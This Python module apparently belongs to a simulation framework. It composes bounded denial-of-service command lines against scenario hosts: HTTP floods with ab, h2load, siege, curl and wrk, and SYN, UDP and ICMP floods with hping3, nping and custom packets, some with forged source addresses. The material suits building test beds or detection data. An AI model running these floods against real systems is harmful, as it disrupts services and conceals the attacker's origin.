"""Floods: requests to the shop and its API, and bare packets to the node.

Owns: command lines of the tools, each bounded by a count. Refuses: more than 15,000 bare packets.
"""

from __future__ import annotations

from attacks.base import (
    API, FLOOD_PACKETS, PAGES, RAW, SHOP, TELLING, AttackSpec, Hosts, Program, Scene, asked, copied, json_lines, listed,
    own, page, seed, url,
)
from scenario import tool

SIEGE = ("verbose = false", "connection = close", "parser = false", "logging = false", "show-logfile = false")
# Not what the site's own people say when they measure it, so that logs can tell.
AGENT = ("-H", "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)")
FORGED_NETWORKS = ("100.64.7", "198.18.40", "198.19.77", "100.66.1")


@tool("http-flood", "ab")
def ab(scene: Scene, _: AttackSpec, hosts: Hosts, *, requests: int, together: int, keep: bool = False,
       tls: bool = False, api: bool = False) -> list[Program]:
    """ab from every address of the attacker, the same page again and again."""
    path = "/api/items" if api else page(scene)
    words = (*AGENT, *(("-k",) if keep else ()))
    return [
        Program(("ab", "-q", "-r", *words, "-n", str(requests), "-c", str(together), "-B", address,
                 "-H", f"Host: {API if api else SHOP}", url(scene, path, "https" if tls else "http")))
        for address in hosts.own
    ]


@tool("http-flood", "h2load")
def h2load(scene: Scene, _: AttackSpec, __: Hosts, *, requests: int, clients: int, streams: int = 1, h1: bool = False,
           rate: int = 0) -> list[Program]:
    """h2load: many streams over few connections with TLS, or HTTP/1.1; with `rate` so many new clients a second."""
    words = ["-n", str(requests), "-c", str(clients), "-m", str(streams), *(("--h1",) if h1 else ())]
    words += ["-r", str(rate)] if rate else []
    return [Program(("h2load", *words, url(scene, page(scene), "http" if h1 else "https")))]


@tool("http-flood", "siege")
def siege(scene: Scene, _: AttackSpec, __: Hosts, *, users: int, rounds: int, delay_s: float = 0.1) -> list[Program]:
    """siege, which thinks for a moment between requests and draws from several pages."""
    targets = listed(scene, "targets", [url(scene, path) for path in PAGES])
    settings = listed(scene, "siege", SIEGE)
    return [Program(("siege", "-q", "-i", "-R", str(settings), "-c", str(users), "-r", str(rounds),
                     "-d", str(delay_s), "-f", str(targets)))]


@tool("http-flood", "curl")
def curl(scene: Scene, _: AttackSpec, __: Hosts, *, requests: int, together: int) -> list[Program]:
    """curl in parallel, a query of its own for each request so that no cache helps."""
    return [Program(("curl", "-s", *TELLING, "-Z", "--parallel-max", str(together), "-H", "Connection: close",
                     "-o", "/dev/null", url(scene, f"/search?q=[1-{requests}]")))]


@tool("http-flood", "wrk")
def wrk(scene: Scene, _: AttackSpec, __: Hosts, *, requests: int, connections: int, keep: bool = True) -> list[Program]:
    """wrk, which a script stops after a count."""
    words = (*AGENT, *(() if keep else ("-H", "Connection: close")))
    # It goes on to wait for the end of its time, which is why that is short.
    stops = ("-d", "40s", "-s", str(copied(scene, "stop.lua")))
    return [Program(("wrk", "-t", "1", "-c", str(connections), *stops, *words,
                     "-H", f"Host: {SHOP}", url(scene, page(scene)), "--", str(requests)))]


@tool("http-flood", "script")
def script(scene: Scene, _: AttackSpec, hosts: Hosts, *, requests: int, rate: float, keep: bool = False,
           posts: bool = False, tls: bool = False) -> list[Program]:
    """A program that asks at its own rate, from all addresses in turn, as several browsers."""
    if posts:
        rows = [{"method": "POST", "target": "/login", "body": f"user=guest{number}&password=x"}
                for number in range(50)]
    else:
        rows = [{"method": "GET", "target": f"{scene.rng.choice(PAGES)}?r={scene.rng.getrandbits(30)}".replace(
            "?sort=price?", "?sort=price&")} for _ in range(200)]
    return asked(scene, hosts, json_lines(scene, "requests", rows), requests, rate, keep=keep, tls=tls, together=200)


def hping3(scene: Scene, packets: int, rate: int, *words: str) -> list[Program]:
    """hping3 at a pace."""
    pace = f"u{1_000_000 // rate}"
    return [Program(("hping3", "-q", "-n", "-i", pace, "-c", str(min(packets, FLOOD_PACKETS)), *words,
                     scene.plan.node), RAW)]


def nping(scene: Scene, packets: int, rate: int, *words: str) -> list[Program]:
    """nping at a rate; it does not wait for answers."""
    return [Program(("nping", "-N", "--privileged", "--send-ip", "--rate", str(rate),
                     "-c", str(min(packets, FLOOD_PACKETS)), *words, scene.plan.node), RAW)]


def bare(scene: Scene, what: str, packets: int, rate: int, sources: tuple[str, ...], *words: object) -> list[Program]:
    """Our own packets, which look like those of an ordinary stack."""
    return [own(scene, "packets.py", what, "--sources", ",".join(sources), "--count", min(packets, FLOOD_PACKETS),
                "--rate", rate, "--seed", seed(scene), *words, scene.plan.node, caps=RAW)]


def senders(scene: Scene, hosts: Hosts, forged: int) -> tuple[str, ...]:
    """The attacker's own addresses, or forged ones: single hosts, or whole networks."""
    if not forged:
        return hosts.own
    if forged > 50:
        return tuple(scene.rng.sample(FORGED_NETWORKS, 3))
    return tuple(f"{scene.rng.choice(FORGED_NETWORKS)}.{scene.rng.randrange(2, 250)}" for _ in range(forged))


@tool("syn-flood", "hping3")
def syn_hping3(scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, rate: int, port: int = 80,
               forged: bool = False, flags: str = "S") -> list[Program]:
    """hping3's SYNs (or other flags), with senders drawn from everywhere if they are forged."""
    return hping3(scene, packets, rate, *(f"-{flag}" for flag in flags), "-p", str(port),
                  *(("--rand-source",) if forged else ()))


@tool("syn-flood", "nping")
def syn_nping(scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, rate: int, port: int = 80,
              flags: str = "syn") -> list[Program]:
    """nping's SYNs."""
    return nping(scene, packets, rate, "--tcp", "--flags", flags, "-p", str(port), "-g", "rand")


@tool("syn-flood", "packets")
def syn_packets(scene: Scene, _: AttackSpec, hosts: Hosts, *, packets: int, rate: int, ports: str = "80",
                forged: int = 0) -> list[Program]:
    """SYNs with the options of a real stack, from one, some or very many senders."""
    return bare(scene, "syn", packets, rate, senders(scene, hosts, forged), "--ports", ports)


@tool("udp-flood", "hping3")
def udp_hping3(scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, rate: int, port: int, size: int,
               one_flow: bool = False, forged: bool = False) -> list[Program]:
    """Datagrams from port after port, or all of one flow."""
    words = ("-k", "-s", str(scene.rng.randrange(20_000, 60_000))) if one_flow else ()
    return hping3(scene, packets, rate, "--udp", "-p", str(port), "-d", str(size), *words,
                  *(("--rand-source",) if forged else ()))


@tool("udp-flood", "nping")
def udp_nping(
    scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, rate: int, port: int, size: int
) -> list[Program]:
    """nping's datagrams, all of one flow."""
    return nping(scene, packets, rate, "--udp", "-p", str(port), "--data-length", str(size), "-g", "rand")


@tool("udp-flood", "packets")
def udp_packets(scene: Scene, _: AttackSpec, hosts: Hosts, *, packets: int, rate: int, ports: str, size: int,
                forged: int = 0) -> list[Program]:
    """Datagrams with random content."""
    return bare(scene, "udp", packets, rate, senders(scene, hosts, forged), "--ports", ports, "--bytes", size)


@tool("icmp-flood", "ping")
def icmp_ping(scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, pause_ms: int, size: int) -> list[Program]:
    """ping, as fast as it lets a user."""
    return [Program(("ping", "-q", "-n", "-i", str(pause_ms / 1_000), "-c", str(min(packets, FLOOD_PACKETS)),
                     "-s", str(size), scene.plan.node))]


@tool("icmp-flood", "hping3")
def icmp_hping3(scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, rate: int, size: int,
                forged: bool = False) -> list[Program]:
    """Echo requests, with senders drawn from everywhere if they are forged."""
    return hping3(scene, packets, rate, "--icmp", "-d", str(size), *(("--rand-source",) if forged else ()))


@tool("icmp-flood", "nping")
def icmp_nping(scene: Scene, _: AttackSpec, __: Hosts, *, packets: int, rate: int, size: int) -> list[Program]:
    """nping's echo requests."""
    return nping(scene, packets, rate, "--icmp", "--data-length", str(size))


@tool("icmp-flood", "packets")
def icmp_packets(scene: Scene, _: AttackSpec, hosts: Hosts, *, packets: int, rate: int, size: int,
                 forged: int = 0) -> list[Program]:
    """Echo requests from one, some or very many senders."""
    return bare(scene, "icmp", packets, rate, senders(scene, hosts, forged), "--bytes", size)
